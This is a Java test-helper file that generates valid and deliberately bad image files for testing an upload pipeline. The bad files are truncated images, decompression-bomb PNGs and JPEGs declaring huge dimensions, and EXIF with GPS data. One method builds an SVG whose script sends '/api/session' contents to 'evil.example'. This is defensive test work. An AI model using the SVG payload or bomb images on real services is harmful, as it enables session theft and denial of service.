package id.cerita.media;

import java.awt.Color;
import java.awt.GradientPaint;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.zip.CRC32;

import javax.imageio.ImageIO;

import org.apache.commons.imaging.formats.jpeg.exif.ExifRewriter;
import org.apache.commons.imaging.formats.tiff.constants.TiffTagConstants;
import org.apache.commons.imaging.formats.tiff.write.TiffOutputDirectory;
import org.apache.commons.imaging.formats.tiff.write.TiffOutputSet;

import id.cerita.media.internal.Encoder;

/** Real image files made in the test: good ones, and each kind of bad one an upload must survive. */
final class CraftedImages {

    private CraftedImages() {
    }

    /** A photo-like picture: a gradient, red in the left half's top, blue in the right half. */
    static BufferedImage picture(int width, int height) {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        Graphics2D g = image.createGraphics();
        g.setPaint(new GradientPaint(0, 0, new Color(240, 200, 120), width, height, new Color(40, 90, 60)));
        g.fillRect(0, 0, width, height);
        g.setColor(Color.RED);
        g.fillRect(0, 0, width / 2, height);
        g.setColor(Color.BLUE);
        g.fillRect(width / 2, 0, width - width / 2, height);
        g.dispose();
        return image;
    }

    static byte[] jpeg(int width, int height) {
        return encode(picture(width, height), ImageFormat.JPEG);
    }

    static byte[] png(int width, int height) {
        return encode(picture(width, height), ImageFormat.PNG);
    }

    static byte[] webp(int width, int height) {
        return encode(picture(width, height), ImageFormat.WEBP);
    }

    static byte[] encode(BufferedImage image, ImageFormat format) {
        try {
            if (format == ImageFormat.PNG) {
                ByteArrayOutputStream out = new ByteArrayOutputStream();
                ImageIO.write(image, "png", out);
                return out.toByteArray();
            }
            return Encoder.encode(image, format, 0.9f);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The JPEG with an EXIF block: orientation tag, and optionally GPS (Jakarta, Monas) and a phone's make and model. */
    static byte[] withExif(byte[] jpeg, int orientation, boolean gpsAndCamera) {
        try {
            TiffOutputSet exif = new TiffOutputSet();
            TiffOutputDirectory root = exif.getOrCreateRootDirectory();
            root.add(TiffTagConstants.TIFF_TAG_ORIENTATION, (short) orientation);
            if (gpsAndCamera) {
                root.add(TiffTagConstants.TIFF_TAG_MAKE, "samsung");
                root.add(TiffTagConstants.TIFF_TAG_MODEL, "SM-A546E");
                exif.setGpsInDegrees(106.8272, -6.1754);
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            new ExifRewriter().updateExifMetadataLossless(jpeg, out, exif);
            return out.toByteArray();
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    /** The first {@code fraction} of the file, as an interrupted upload leaves it. */
    static byte[] truncated(byte[] bytes, double fraction) {
        return Arrays.copyOf(bytes, (int) (bytes.length * fraction));
    }

    /** A valid little PNG whose IHDR declares width × height: a few hundred bytes claiming gigapixels. */
    static byte[] pngDeclaring(int width, int height) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
        ByteBuffer ihdr = ByteBuffer.allocate(13).putInt(width).putInt(height).put((byte) 8).put((byte) 2)
                .put((byte) 0).put((byte) 0).put((byte) 0);
        chunk(out, "IHDR", ihdr.array());
        chunk(out, "IDAT", new byte[] {0x78, (byte) 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01});
        chunk(out, "IEND", new byte[0]);
        return out.toByteArray();
    }

    /**
     * A real, complete PNG of width × height grey pixels, written row by row without ever holding the picture:
     * a few hundred kilobytes that decode to width × height × 3 bytes.
     */
    static byte[] flatPng(int width, int height) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
        chunk(out, "IHDR", ByteBuffer.allocate(13).putInt(width).putInt(height).put((byte) 8).put((byte) 2)
                .put((byte) 0).put((byte) 0).put((byte) 0).array());
        ByteArrayOutputStream idat = new ByteArrayOutputStream();
        byte[] row = new byte[1 + width * 3];
        java.util.Arrays.fill(row, (byte) 0x80);
        row[0] = 0;
        try (var deflate = new java.util.zip.DeflaterOutputStream(idat,
                new java.util.zip.Deflater(java.util.zip.Deflater.BEST_COMPRESSION), 64 * 1024)) {
            for (int y = 0; y < height; y++) {
                deflate.write(row);
            }
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        chunk(out, "IDAT", idat.toByteArray());
        chunk(out, "IEND", new byte[0]);
        return out.toByteArray();
    }

    private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
        byte[] typeBytes = type.getBytes(StandardCharsets.US_ASCII);
        CRC32 crc = new CRC32();
        crc.update(typeBytes);
        crc.update(data);
        out.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
        out.writeBytes(typeBytes);
        out.writeBytes(data);
        out.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    /** A real small JPEG whose SOF0 frame header is rewritten to declare width × height. */
    static byte[] jpegDeclaring(int width, int height) {
        byte[] b = jpeg(64, 48);
        for (int i = 2; i + 8 < b.length; i++) {
            if ((b[i] & 0xFF) == 0xFF && (b[i + 1] & 0xFF) == 0xC0) {
                b[i + 5] = (byte) (height >> 8);
                b[i + 6] = (byte) height;
                b[i + 7] = (byte) (width >> 8);
                b[i + 8] = (byte) width;
                return b;
            }
        }
        throw new IllegalStateException("no SOF0 in the JDK's JPEG");
    }

    /** A JPEG of one flat colour with an ICC profile (APP2 "ICC_PROFILE") embedded right after SOI. */
    static byte[] jpegWithIccProfile(Color colour, java.awt.color.ICC_Profile profile) {
        BufferedImage image = new BufferedImage(64, 64, BufferedImage.TYPE_INT_RGB);
        Graphics2D g = image.createGraphics();
        g.setColor(colour);
        g.fillRect(0, 0, 64, 64);
        g.dispose();
        byte[] jpeg = encode(image, ImageFormat.JPEG);
        byte[] icc = profile.getData();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(0xFF);
        out.write(0xD8);
        int length = 2 + 12 + 2 + icc.length;
        out.writeBytes(new byte[] {(byte) 0xFF, (byte) 0xE2, (byte) (length >> 8), (byte) length});
        out.writeBytes("ICC_PROFILE\0".getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(new byte[] {1, 1});
        out.writeBytes(icc);
        out.write(jpeg, 2, jpeg.length - 2);
        return out.toByteArray();
    }

    static byte[] svgWithScript() {
        return """
                <?xml version="1.0" encoding="UTF-8"?>
                <svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
                  <script>fetch('/api/session').then(r => r.text()).then(t => location = 'https://evil.example/?' + t)</script>
                  <rect width="100" height="100" fill="red"/>
                </svg>
                """.getBytes(StandardCharsets.UTF_8);
    }

    /** The first bytes of an iPhone HEIC file (ISO-BMFF "ftyp" box with brand heic). */
    static byte[] heicHeader() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {0, 0, 0, 0x18});
        out.writeBytes("ftypheic".getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(new byte[] {0, 0, 0, 0});
        out.writeBytes("mif1heic".getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(new byte[200]);
        return out.toByteArray();
    }
}
